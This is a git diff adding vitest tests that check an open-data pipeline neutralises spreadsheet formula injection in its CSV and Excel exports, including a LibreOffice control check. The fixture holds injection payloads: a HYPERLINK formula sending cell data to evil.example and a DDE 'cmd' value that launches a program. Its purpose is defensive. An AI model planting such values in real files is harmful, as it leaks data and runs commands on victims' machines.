@@ -6,7 +6,11 @@ import { describe, it, expect, beforeAll, afterAll } from 'vitest';
 import { cpSync, mkdtempSync, rmSync, writeFileSync, readFileSync, readdirSync, appendFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { checkDataset } from '../src/pipeline.js';
+import { spawnSync, execFileSync } from 'node:child_process';
+import ExcelJS from 'exceljs';
+import { checkDataset, buildDataset } from '../src/pipeline.js';
+import { renderCsv } from '../src/render/csv.js';
+import { parseCsv } from './helpers/csv.js';
 import { formatProblem, hasErrors, type Problem } from '../src/problem.js';
 import { resolve } from '../src/resolve/index.js';
 import { webEdition } from '../src/documents/web/index.js';
@@ -323,4 +327,96 @@ describe('SVG figures that could run code when opened from the web edition are r
     const files = renderWebEdition(webEdition(resolve(checked.model!)));
     expect(files.find((f) => f.name === 'figures/good.svg')!.bytes.toString('utf8')).toBe(good);
   });
+});
+
+describe('spreadsheet formulas in the open data are neutralised in every CSV', () => {
+  it('renderCsv: a text that begins as a formula gets a leading \', a number (even negative) stays a number', () => {
+    const csv = renderCsv(['=h', 'n'], [['=1+1', -5], ['+1', 0], ['-5', 3.5], ['@SUM(A1)', 1], ['\t=1', 2], ['\r=1', 3], ['a=1', -0.25], ['', 4], ['＝1', 5]]).toString('utf8');
+    expect(csv).toBe(
+      "\uFEFF'=h,n\r\n'=1+1,-5\r\n'+1,0\r\n'-5,3.5\r\n'@SUM(A1),1\r\n'\t=1,2\r\n\"'\r\n=1\",3\r\na=1,-0.25\r\n,4\r\n＝1,5\r\n",
+    );
+  });
+
+  const HOSTILE = {
+    title: '=HYPERLINK("http://evil.example/?"&A1,"詳しく")',
+    department: '@SUM(1+1)',
+    division: ['+1+1', '-2+3'],
+    description: '\t=1+1',
+    label: '\r=cmd|\' /C calc\'!A0',
+    baseline: '-5',
+    achievement: '=1+1',
+  };
+  async function built(): Promise<string> {
+    const data = variant((d) => {
+      editJson(path.join(d, 'initiatives', '001.json'), (j) => {
+        Object.assign(j, { title: HOSTILE.title, department: HOSTILE.department, division: HOSTILE.division, description: HOSTILE.description });
+        j.schedule[0].label = HOSTILE.label;
+        j.indicators[0].baseline.value = HOSTILE.baseline;
+        j.results['2017'].achievement = HOSTILE.achievement;
+      });
+    });
+    const out = path.join(path.dirname(data), 'out');
+    const r = await buildDataset(data, out, { log: () => {} });
+    expect(shown(errors(r.problems))).toBe('');
+    return path.join(out, 'mini', 'data');
+  }
+  const read = (dir: string, f: string) => parseCsv(readFileSync(path.join(dir, f), 'utf8').replace(/^\uFEFF/, ''));
+  const column = (rows: string[][], name: string) => rows.slice(1).map((r) => r[rows[0].indexOf(name)]);
+
+  it('a data set with such values builds; every text cell that began as a formula begins with \' and says the rest as written; numbers are numbers', async () => {
+    const dir = await built();
+    const initiatives = read(dir, 'initiatives.csv');
+    expect(column(initiatives, '事業名')[0]).toBe(`'${HOSTILE.title}`);
+    expect(column(initiatives, '部局')[0]).toBe(`'${HOSTILE.department}`);
+    expect(column(initiatives, '課室1')[0]).toBe(`'${HOSTILE.division[0]}`);
+    expect(column(initiatives, '課室2')[0]).toBe(`'${HOSTILE.division[1]}`);
+    expect(column(initiatives, '取組概要')[0]).toBe(`'${HOSTILE.description}`);
+    expect(column(initiatives, '事業番号')).toEqual(['1', '2']);
+    expect(column(read(dir, 'schedule.csv'), '内容')[0]).toBe(`'${HOSTILE.label.replace('\r', '\r\n')}`);
+    expect(column(read(dir, 'indicators.csv'), '現状値')[0]).toBe(`'${HOSTILE.baseline}`);
+    const results = read(dir, 'results-2017.csv');
+    expect(column(results, '目標の達成度')[0]).toBe(`'${HOSTILE.achievement}`);
+    expect(column(results, '事業費（千円）').every((v) => /^\d*$/.test(v))).toBe(true);
+    // no text cell of any CSV begins as a formula
+    for (const f of readdirSync(dir).filter((x) => x.endsWith('.csv'))) for (const row of read(dir, f)) for (const c of row) expect(c, `${f}: ${c}`).not.toMatch(/^[=+\-@\t\r]/);
+    // the data dictionary says so, and the workbook keeps the values as written (strings there are never formulas)
+    const dict = read(dir, 'columns.csv');
+    const typeRow = dict.find((r) => r[dict[0].indexOf('項目名')] === '型')!;
+    expect(typeRow[dict[0].indexOf('説明')]).toContain("先頭に ' を付けています");
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(path.join(dir, 'opendata.xlsx'));
+    const sheet = wb.worksheets[0];
+    const header = (sheet.getRow(1).values as unknown[]).map(String);
+    expect(sheet.getRow(2).getCell(header.indexOf('事業名')).value).toBe(HOSTILE.title);
+    sheet.eachRow((r) => r.eachCell((c) => expect(c.formula, c.address).toBeUndefined()));
+  }, 120_000);
+
+  const soffice = ['soffice', 'libreoffice'].find((c) => spawnSync('which', [c]).status === 0);
+  if (!soffice) {
+    if (process.env.CI) throw new Error('LibreOffice (soffice) is missing: .ci/run installs libreoffice-calc-nogui');
+    console.warn('\n*** LibreOffice (soffice) is not installed: the CSV-in-LibreOffice test is SKIPPED (apt-get install libreoffice-calc-nogui) ***\n');
+  }
+  it.skipIf(!soffice)('LibreOffice opens every CSV with no formula in any cell; the same CSV without the \' would have run them', async () => {
+    const dir = await built();
+    const lo = mkdtempSync(path.join(work, 'lo-'));
+    const csvs = readdirSync(dir).filter((x) => x.endsWith('.csv'));
+    // the control: initiatives.csv with the neutralising ' taken away again
+    const bare = readFileSync(path.join(dir, 'initiatives.csv'), 'utf8').replace(/(^|,)("?)'(?=[=+\-@\t\r])/gm, '$1$2');
+    writeFileSync(path.join(lo, 'bare.csv'), bare);
+    for (const f of csvs) cpSync(path.join(dir, f), path.join(lo, f));
+    // 44,34,76,1: comma, double quote, UTF-8, from the first line (LibreOffice's own defaults otherwise)
+    execFileSync(soffice!, ['--headless', `-env:UserInstallation=file://${lo}/profile`, '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', path.join(lo, 'xlsx'), ...[...csvs, 'bare.csv'].map((f) => path.join(lo, f))], { stdio: 'pipe', timeout: 180_000 });
+    const formulas = async (f: string) => {
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.readFile(path.join(lo, 'xlsx', f.replace(/\.csv$/, '.xlsx')));
+      const found: string[] = [];
+      const texts: string[] = [];
+      wb.worksheets[0].eachRow((r) => r.eachCell((c) => (c.formula ? found.push(`${c.address} ${c.formula}`) : typeof c.value === 'string' && texts.push(c.value))));
+      return { found, texts };
+    };
+    for (const f of csvs) expect((await formulas(f)).found, f).toEqual([]);
+    const ok = await formulas('initiatives.csv');
+    expect(ok.texts).toContain(`'${HOSTILE.title}`);
+    expect((await formulas('bare.csv')).found.join('\n')).toContain('HYPERLINK');
+  }, 240_000);
 });
